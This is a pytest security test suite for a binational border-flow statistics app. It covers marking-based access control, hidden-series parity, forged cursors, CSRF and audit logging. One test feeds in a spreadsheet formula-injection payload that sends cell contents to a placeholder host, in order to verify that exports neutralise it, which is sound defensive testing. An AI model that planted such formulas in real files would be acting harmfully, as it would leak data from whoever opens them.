"""Attacks of the review: a colleague below a series' marking, a partner through the pages and the
exports, forged cursors, cross-site posts, and reads that must leave a trace in the audit log."""

from __future__ import annotations

import base64
import json
import re

from sqlalchemy import select

from binational import workers
from binational.audit.models import AuditEntry
from binational.db import act_as_system
from binational.flows import runs
from tests.conftest import sequence_audit
from tests.flows import samples
from tests.web.conftest import sign_in

API = "/api/v1/flows"


def _actions(db) -> list[str]:  # noqa: ANN001
    sequence_audit(db)
    with db.session() as session:
        act_as_system(session)
        return [e.action for e in session.scalars(select(AuditEntry).order_by(AuditEntry.seq))]


def test_a_colleague_below_the_marking_can_neither_probe_nor_overwrite_a_red_series(client, cast, upload, series_ids):
    red = samples.seasonal("cbp-red-operation", 2020, 36, 900.0)
    upload("us_supervisor", samples.long_csv(red), name="red.csv", marking="TLP:RED")
    # the AMBER analyst of the same agency guesses the key and the values: the answer must be the one a
    # key nobody holds gets (no refusal, no count confirming the guess)
    absent = [line.replace("cbp-red-operation", "cbp-red-operatiom") for line in red]
    answers = []
    for name, lines in (("guess.csv", red), ("absent.csv", absent)):
        r = client.post(
            f"{API}/imports",
            headers={**cast["us_analyst"].headers, "Content-Type": "text/csv"},
            params={"source": name},
            content=samples.long_csv(lines).encode(),
        )
        assert r.status_code == 201, r.text
        answers.append({k: v for k, v in r.json().items() if k != "file"})
    assert answers[0] == answers[1] and answers[0]["added"] == 36 and answers[0]["unchanged"] == 0
    # the analyst wrote a series of its own marking; the RED one is untouched
    other = [line.rsplit(",", 1)[0] + ",1" for line in red]
    again = upload("us_analyst", samples.long_csv(other), name="overwrite.csv")
    assert again["replaced"] == 36
    items = client.get(f"{API}/series", headers=cast["us_supervisor"].headers, params={"limit": 1000}).json()["items"]
    both = {row["marking"]: row["id"] for row in items if row["key"] == "cbp-red-operation"}
    assert set(both) == {"TLP:RED", "TLP:AMBER"}
    values = client.get(f"{API}/series/{both['TLP:RED']}", headers=cast["us_supervisor"].headers).json()["values"]
    assert [v["value"] for v in values] == [float(line.rsplit(",", 1)[1]) for line in red]
    assert "US-CBP:cbp-red-operation" in series_ids("us_analyst")
    mine = client.get(f"{API}/series", headers=cast["us_analyst"].headers, params={"limit": 1000}).json()["items"]
    assert [row["marking"] for row in mine if row["key"] == "cbp-red-operation"] == ["TLP:AMBER"]


def test_exported_cells_a_spreadsheet_would_run_are_written_as_text(client, cast, upload):
    formula = '=HYPERLINK("http://example.invalid/?x="&A1)'
    text = "series_id,month,value\n" + "\n".join(f'"{formula.replace(chr(34), chr(34) * 2)}",2024-{m:02d},{m}'
                                                 for m in range(1, 13)) + "\n"
    upload("us_analyst", text, name="formula.csv", distribution="national")
    items = client.get(f"{API}/series", headers=cast["us_atf"].headers, params={"limit": 1000}).json()["items"]
    series_id = next(row["id"] for row in items if row["key"] == formula)
    api = client.get(f"{API}/series/{series_id}/export", headers=cast["us_atf"].headers)
    sign_in(client, "us_analyst")
    page = client.get(f"/flows/series/{series_id}/export.csv")
    for answer in (api, page):
        assert answer.status_code == 200
        lines = answer.text.splitlines()[1:]
        assert lines and all(line.startswith("\"'=HYPERLINK") for line in lines), lines[:2]


def test_a_hidden_series_page_and_its_csv_answer_as_an_absent_one(client, cast, upload):
    upload("us_analyst", samples.encounters(), name="enc.csv")  # the hidden id is not a lone digit
    upload("us_analyst", samples.long_csv(samples.seasonal("cbp-page-secret", 2020, 24, 100.0)), name="s.csv")
    items = client.get(f"{API}/series", headers=cast["us_analyst"].headers, params={"limit": 1000}).json()["items"]
    hidden = next(row["id"] for row in items if row["key"] == "cbp-page-secret")
    absent = hidden + 1000
    sign_in(client, "mx_analyst")
    for path in ("/flows/series/{}", "/flows/series/{}/export.csv"):
        a = client.get(path.format(hidden))
        b = client.get(path.format(absent))
        assert a.status_code == b.status_code == 404
        assert re.sub(rf"\b{hidden}\b", "ID", a.text) == re.sub(rf"\b{absent}\b", "ID", b.text)
        assert "cbp-page-secret" not in a.text


def test_forged_and_borrowed_cursors_show_nothing_hidden(client, cast, upload):
    upload("us_analyst", samples.long_csv(*(samples.seasonal(f"cbp-own-{i}", 2020, 13, 10.0) for i in range(3))))
    upload("us_analyst", samples.encounters(), name="enc.csv")
    owner = client.get(f"{API}/series", headers=cast["us_analyst"].headers, params={"limit": 1}).json()
    assert owner["next_cursor"]
    # the owner's cursor, replayed by a partner, pages only through what the partner may see
    r = client.get(f"{API}/series", headers=cast["mx_analyst"].headers, params={"cursor": owner["next_cursor"]})
    assert r.status_code == 200 and all(row["public"] for row in r.json()["items"])
    # a cursor written by hand (no signature, or another position) is refused in the one error shape
    raw = base64.urlsafe_b64encode(json.dumps({"after": 0}).encode()).decode()
    for forged in (raw, owner["next_cursor"][:-2] + "AA", "x" * 400):
        r = client.get(f"{API}/series", headers=cast["mx_analyst"].headers, params={"cursor": forged})
        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_input", r.text


def test_the_subscription_form_refuses_a_cross_site_post(client, cast, upload):
    upload("us_analyst", samples.encounters(), name="enc.csv")
    sign_in(client, "mx_analyst")
    r = client.post("/flows/subscriptions", data={"indicator": "us-cbp-encounters"}, follow_redirects=False)
    assert r.status_code == 403
    assert client.get(f"{API}/notices", headers=cast["mx_analyst"].headers).status_code == 200
    r = client.post(f"{API}/subscriptions", headers=cast["mx_analyst"].headers, params={"indicator": "x"})
    assert r.status_code == 404


def test_every_list_of_indicators_and_alerts_is_audited(client, cast, upload, db):
    upload("us_analyst", samples.encounters(), name="enc.csv")
    before = _actions(db)
    assert client.get(f"{API}/indicators", headers=cast["mx_analyst"].headers).status_code == 200
    assert client.get(f"{API}/alerts", headers=cast["mx_analyst"].headers).status_code == 200
    after = _actions(db)[len(before):]
    assert after.count("flows.list") >= 1 and after.count("flows.alerts") >= 1, after


def test_a_bad_policy_choice_on_import_is_refused_before_reading(client, cast):
    for params in ({"marking": "TLP:PURPLE"}, {"distribution": "everyone"}, {"marking": "TLP:RED"}):
        r = client.post(
            f"{API}/imports",
            headers={**cast["mx_analyst"].headers, "Content-Type": "text/csv"},
            params=params,
            content=b"series_id,month,value\nx,2024-01,1\n",
        )
        assert r.status_code == 422 and r.json()["error"]["code"] == "invalid_input", r.text
    r = client.post(
        f"{API}/imports",
        headers={**cast["mx_analyst"].headers, "Content-Type": "text/csv"},
        content=b"series_id,month,value\n" + b"x,2024-01,1\n" * 200_000,
    )
    assert r.status_code == 413


def test_subscribing_on_the_page_to_a_hidden_indicator_is_like_an_unknown_one(client, cast, upload):
    upload("us_analyst", samples.long_csv(samples.seasonal("cbp-quiet-sector", 2020, 24, 50.0)), name="q.csv")
    upload("us_analyst", samples.encounters(), name="enc.csv")
    csrf = sign_in(client, "mx_analyst")
    answers = [
        client.post("/flows/subscriptions", data={"indicator": name, "csrf": csrf}, follow_redirects=False)
        for name in ("cbp-quiet-sector", "cbp-quiet-sectox")
    ]
    assert [a.status_code for a in answers] == [422, 422]
    hidden, absent = (a.text.replace(n, "X") for a, n in zip(answers, ("sector", "sectox"), strict=True))
    assert hidden == absent
    assert 'data-testid="flows-series"' not in hidden  # the hidden indicator lists nothing
    assert 'name="indicator"' in hidden and "us-cbp-encounters" in hidden  # the dashboard stays usable


def test_a_partner_cannot_publish_another_countrys_statistics(client, cast, upload, series_ids, db):
    """A CBP or BTS file makes public series every agency reads, with alerts to every subscriber: only an
    agency of the country whose sources publish it may import one. GT-PNC and MX-FGR are refused, with
    nothing written and the refusal audited; their own long CSV still imports, kept to them."""
    for who in ("outsider", "mx_analyst"):
        for text in (samples.encounters(), samples.seizures(), samples.bts(), samples.port_modes()):
            body = upload(who, text, name="cbp.csv", status=403)
            assert body["error"]["code"] == "forbidden" and "published by its own agencies" in body["error"]["message"]
        assert series_ids(who) == {}
    assert "flows.import" in _actions(db)
    upload("outsider", samples.long_csv(samples.seasonal("gt-own", 2022, 24, 10.0)), name="own.csv")
    assert set(series_ids("us_analyst")) == set()
    upload("us_analyst", samples.encounters(), name="cbp.csv")
    assert any(key.startswith("US-CBP:") for key in series_ids("outsider"))


def test_one_forecast_request_fits_at_most_the_set_number_of_series(client, cast, upload, monkeypatch, db):
    """Each series costs seconds of CPU: an analyst's one API call past `flows_forecast_max_series` is refused
    before anything is fitted or stored, and names how to narrow it; within the cap it runs (worked here
    in the test's process: test_runs proves the worker's own)."""
    from binational.config import get_settings

    monkeypatch.setattr(workers, "launch", lambda *_args: None)
    series = [samples.seasonal(f"cbp-own-{n}", 2019, 30, 100.0 + n) for n in range(3)]
    upload("us_analyst", samples.long_csv(*series), name="own.csv")
    monkeypatch.setenv("BINATIONAL_FLOWS_FORECAST_MAX_SERIES", "2")
    get_settings.cache_clear()
    try:
        r = client.post(f"{API}/forecasts", headers=cast["us_analyst"].headers, params={"horizon": 3})
        assert r.status_code == 422, r.text
        assert "3 series chosen" in r.json()["error"]["message"] and "indicator" in r.json()["error"]["message"]
        r = client.post(f"{API}/forecasts", headers=cast["us_analyst"].headers,
                        params={"horizon": 3, "indicator": "cbp-own-0"})
        assert r.status_code == 202, r.text
        assert runs.execute(db, r.json()["id"]) == "finished"
        done = client.get(f"{API}/forecasts/{r.json()['id']}", headers=cast["us_analyst"].headers).json()
        assert done["status"] == "finished" and done["summary"]["forecast"] == 1
    finally:
        get_settings.cache_clear()


def _run_entries(db, run_id: str) -> list[tuple[str, str, str | None, list[str]]]:  # noqa: ANN001
    """(action, decision, agency, objects) of the audit entries naming forecast run `run_id`."""
    sequence_audit(db)
    with db.session() as session:
        act_as_system(session)
        rows = session.scalars(select(AuditEntry).order_by(AuditEntry.seq)).all()
        named = [(e.action, e.decision, e.actor_agency, json.loads(e.entry)["objects"]) for e in rows]
    # a refusal names the id asked for, bare and with no owner (whose run it is stays untold)
    return [e for e in named if {f"forecast-run:{run_id}", run_id} & set(e[3])]


def test_probes_of_a_running_run_are_each_audited_and_leave_its_starters_first_poll_audited(
    client, cast, upload, db, monkeypatch
):
    """The once-per-run audit of polls is the starter's alone: a colleague's or a partner's probe of the
    run is refused and audited every time, and does not spend the starter's first audited poll."""
    from binational.access.actions import ACTIONS

    monkeypatch.setattr(workers, "launch", lambda *_args: None)
    upload("us_analyst", samples.long_csv(samples.seasonal("cbp-probed-run", 2019, 30, 400.0)), name="p.csv")
    run_id = client.post(f"{API}/forecasts", headers=cast["us_analyst"].headers,
                         params={"horizon": 3, "indicator": "cbp-probed-run"}).json()["id"]
    for member in ("us_supervisor", "mx_analyst"):
        for _ in range(2):
            assert client.get(f"{API}/forecasts/{run_id}", headers=cast[member].headers).status_code == 404
    for _ in range(2):
        polled = client.get(f"{API}/forecasts/{run_id}", headers=cast["us_analyst"].headers).json()
        # a running run's answer is its own counts: nothing of a series, its values or its owner
        assert polled["status"] == "running" and polled["series"] == [] and polled["summary"] is None, polled
        assert polled["progress"] == {"done": 0, "total": 1} and polled["indicator"] == "cbp-probed-run"  # its own
    entries = _run_entries(db, run_id)
    assert sorted(a for a, d, who, _ in entries if d == "deny") == ["flows.forecast_run"] * 4
    assert sorted(who for _, d, who, _ in entries if d == "deny") == ["MX-FGR", "MX-FGR", "US-CBP", "US-CBP"]
    assert [(a, who) for a, d, who, _ in entries if a == "flows.forecast.progress"] == [("flows.forecast.progress",
                                                                                          "US-CBP")]
    assert "flows.forecast.progress" in ACTIONS  # a filter of the audit page, a row of docs/access.md


def _finished_run(db, user: str, series: list[int]) -> str:  # noqa: ANN001
    """A finished run of `user` whose summary names `series` (as a worker would have stored it)."""
    import uuid

    from binational.access.models import User
    from binational.db import utcnow
    from binational.flows.models import FlowForecastRun

    run_id = uuid.uuid4().hex
    with db.unit_of_work() as s:
        act_as_system(s)
        who = s.scalars(select(User).where(User.username == user)).one()
        s.add(FlowForecastRun(id=run_id, user_id=who.id, agency=who.agency, status="finished", horizon=3,
                              progress_done=len(series), progress_total=len(series), message="", finished_at=utcnow(),
                              summary=json.dumps({"forecast": len(series), "skipped": 0, "series": series})))
    return run_id


def test_a_finished_runs_series_owners_are_those_its_reader_sees_on_the_series(client, cast, upload, db, series_ids):
    """A partner's finished run names each series it may see now with the owner its series page shows;
    one hidden since (an internal and a national series of another country) is not listed, its key and id
    nowhere in the answer, which is the same as for a run of the visible series alone; every series shown
    is named in the audit entry of the read, however many."""
    upload("us_analyst", samples.long_csv(samples.seasonal("cbp-kept-inside", 2019, 30, 100.0)), name="in.csv")
    upload("us_analyst", samples.long_csv(samples.seasonal("cbp-kept-national", 2019, 30, 100.0)), name="nat.csv",
           distribution="national")
    upload("us_analyst", samples.encounters(), name="encounters.csv")
    us = series_ids("us_analyst")
    public = sorted(i for key, i in series_ids("mx_analyst").items() if key.startswith("US-CBP:"))
    hidden = [us["US-CBP:cbp-kept-inside"], us["US-CBP:cbp-kept-national"]]
    mx = cast["mx_analyst"].headers
    with_hidden = client.get(f"{API}/forecasts/{_finished_run(db, 'mx_analyst', public + hidden)}", headers=mx).json()
    shown = {s["id"]: s["owner_agency"] for s in with_hidden["series"]}
    assert sorted(shown) == public
    for series_id, owner in shown.items():
        assert client.get(f"{API}/series/{series_id}", headers=mx).json()["owner_agency"] == owner
    assert not {"cbp-kept-inside", "cbp-kept-national"} & set(json.dumps(with_hidden).split('"'))
    alone = client.get(f"{API}/forecasts/{_finished_run(db, 'mx_analyst', public)}", headers=mx).json()
    strip = ("id", "started_at", "finished_at", "summary", "progress")  # counts of the run as it ran
    assert {k: v for k, v in with_hidden.items() if k not in strip} == {k: v for k, v in alone.items()
                                                                         if k not in strip}
    # the read names every series it shows (no cap): a run of more series than one page of them
    many = [f"cbp-many-{n:03d}" for n in range(205)]
    upload("us_analyst", samples.long_csv(*(samples.seasonal(k, 2024, 2, 10.0) for k in many)), name="many.csv")
    ids = sorted(i for key, i in series_ids("us_analyst").items() if key.split(":", 1)[1] in many)
    big = _finished_run(db, "us_analyst", ids)
    assert len(client.get(f"{API}/forecasts/{big}", headers=cast["us_analyst"].headers).json()["series"]) == 205
    [(_, _, _, objects)] = [e for e in _run_entries(db, big) if e[1] == "allow"]
    assert {f"flow-series:{i}" for i in ids} <= set(objects)
